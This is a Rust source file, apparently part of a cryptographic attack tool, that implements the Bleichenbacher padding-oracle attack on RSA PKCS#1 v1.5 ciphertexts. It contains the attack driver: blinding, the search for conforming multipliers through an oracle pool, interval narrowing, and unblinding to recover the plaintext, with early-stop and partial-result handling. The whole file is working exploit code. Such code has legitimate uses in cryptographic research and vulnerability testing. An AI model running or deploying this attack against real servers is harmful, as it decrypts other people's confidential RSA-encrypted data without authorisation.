use crate::error::{Error, Result};
use crate::interval::{Interval, IntervalSet};
use crate::key::KeyContext;
use crate::math::inv_egcd;
use crate::oracle::Oracle;
use crate::pool::OraclePool;
use crate::search::{scan_from, update_intervals, SearchEngine};
use num_bigint::{BigUint, RandBigInt};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use tracing::{debug, info, instrument, warn};

#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct AttackOptions {
    /// Start the blinding search at a random multiplier instead of 1.
    pub random_blinding: bool,
    /// Give up with a best-effort answer after this many iterations.
    pub max_iterations: Option<usize>,
}

/// Best-effort state of an attack that stopped before converging: the
/// blinded plaintext `m * s0 mod n` lies in `range`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Partial {
    pub range: Interval,
    pub s0: BigUint,
    pub s_last: BigUint,
    pub iterations: usize,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Outcome {
    Recovered(BigUint),
    Partial(Partial),
}

impl Outcome {
    pub fn plaintext(&self) -> Option<&BigUint> {
        match self {
            Outcome::Recovered(m) => Some(m),
            Outcome::Partial(_) => None,
        }
    }
}

/// `m0 * s0^-1 mod n`
pub fn unblind(key: &KeyContext, m0: &BigUint, s0: &BigUint) -> Result<BigUint> {
    let inv = inv_egcd(s0, &key.n).ok_or(Error::NotInvertible)?;
    Ok(m0 * inv % &key.n)
}

/// Drives one Bleichenbacher attack against a ciphertext to convergence.
pub struct Attack<O> {
    key: KeyContext,
    ct: BigUint,
    c: BigUint,
    s_list: Vec<BigUint>,
    m: IntervalSet,
    iteration: usize,
    pool: OraclePool<O>,
    options: AttackOptions,
    stop: Option<Arc<AtomicBool>>,
}

impl<O: Oracle + Send> Attack<O> {
    pub fn new(key: KeyContext, ct: BigUint, pool: OraclePool<O>, options: AttackOptions) -> Self {
        let ct = ct % &key.n;
        let m = IntervalSet::from_iter([Interval::new(key.two_b(), key.three_b())]);
        Attack {
            c: ct.clone(),
            ct,
            key,
            s_list: vec![],
            m,
            iteration: 1,
            pool,
            options,
            stop: None,
        }
    }

    /// Once `stop` is set, `run` returns its best-effort range before the next
    /// iteration.
    pub fn with_stop(mut self, stop: Arc<AtomicBool>) -> Self {
        self.stop = Some(stop);
        self
    }

    fn stop_requested(&self) -> bool {
        self.stop.as_ref().map_or(false, |stop| stop.load(Ordering::Relaxed))
    }

    pub fn key(&self) -> &KeyContext {
        &self.key
    }

    /// Accepted multipliers, blinding multiplier first.
    pub fn s_list(&self) -> &[BigUint] {
        &self.s_list
    }

    pub fn intervals(&self) -> &IntervalSet {
        &self.m
    }

    pub fn iteration(&self) -> usize {
        self.iteration
    }

    pub fn queries(&self) -> u64 {
        self.pool.queries()
    }

    /// Step 1: finds `s0` such that `ct * s0^e` is conforming and makes that
    /// the working ciphertext.
    #[instrument(skip_all)]
    pub fn blind<R: rand::Rng + ?Sized>(&mut self, rng: &mut R) -> Result<BigUint> {
        let one = BigUint::from(1u8);
        let start = if self.options.random_blinding {
            rng.gen_biguint_range(&one, &self.key.n)
        } else {
            one.clone()
        };
        let candidates = scan_from(start.clone(), &self.key.n).chain(scan_from(one, &start));
        let engine = SearchEngine::new(&self.key, &self.pool);
        let s0 = engine.find_conforming(&self.ct, candidates, true)?;
        self.c = self.key.blind(&self.ct, &s0);
        self.s_list = vec![s0.clone()];
        info!(s0 = %s0, queries = self.pool.queries(), "blinding done");
        Ok(s0)
    }

    /// Steps 2 to 4 once. Returns the final one-element range on convergence.
    pub fn iterate(&mut self) -> Result<Option<Interval>> {
        let s_prev = self.s_list.last().ok_or(Error::SearchExhausted)?;
        let engine = SearchEngine::new(&self.key, &self.pool);
        let s = engine.search(&self.c, &self.m, s_prev, self.iteration)?;
        debug!(iteration = self.iteration, s = %s, "accepted multiplier");

        self.m = update_intervals(&self.key, &self.m, &s)?;
        self.s_list.push(s);
        if self.iteration <= 5 || self.iteration % 50 == 0 {
            info!(
                iteration = self.iteration,
                intervals = self.m.count(),
                candidates = %self.m.size(),
                queries = self.pool.queries(),
                "narrowed"
            );
        } else {
            debug!(iteration = self.iteration, intervals = self.m.count(), candidates = %self.m.size(), "narrowed");
        }

        if let Some(r) = self.m.single() {
            if r.len() <= BigUint::from(1u8) {
                return Ok(Some(r.clone()));
            }
        }
        self.iteration += 1;
        Ok(None)
    }

    /// Best-effort answer from the current state, once blinding is done.
    pub fn partial(&self) -> Option<Partial> {
        Some(Partial {
            range: self.m.smallest_inclusive()?,
            s0: self.s_list.first()?.clone(),
            s_last: self.s_list.last()?.clone(),
            iterations: self.s_list.len().saturating_sub(1),
        })
    }

    fn give_up(&self) -> Result<Outcome> {
        let partial = self.partial().ok_or(Error::OracleClosed)?;
        info!(range = %partial.range, iterations = partial.iterations, "returning best-effort range");
        Ok(Outcome::Partial(partial))
    }

    /// Blinds (if not done yet) and iterates until the plaintext is known, the
    /// oracle goes away, the iteration cap is hit or a stop is requested.
    #[instrument(skip_all, fields(k = self.key.k))]
    pub fn run<R: rand::Rng + ?Sized>(&mut self, rng: &mut R) -> Result<Outcome> {
        info!("attack started");
        if self.s_list.is_empty() {
            self.blind(rng)?;
        }
        loop {
            if self.stop_requested() {
                info!(iteration = self.iteration, "stop requested");
                return self.give_up();
            }
            match self.iterate() {
                Ok(Some(r)) => {
                    let s0 = &self.s_list[0];
                    let m = unblind(&self.key, &r.start, s0)?;
                    info!(
                        iterations = self.iteration,
                        queries = self.pool.queries(),
                        plaintext = %m,
                        "plaintext recovered"
                    );
                    return Ok(Outcome::Recovered(m));
                }
                Ok(None) => {
                    if let Some(max) = self.options.max_iterations {
                        if self.iteration > max {
                            return self.give_up();
                        }
                    }
                }
                Err(e) if !e.is_fatal() => {
                    warn!(iteration = self.iteration, error = %e, "stopping before convergence");
                    return self.give_up();
                }
                Err(e) => return Err(e),
            }
        }
    }
}
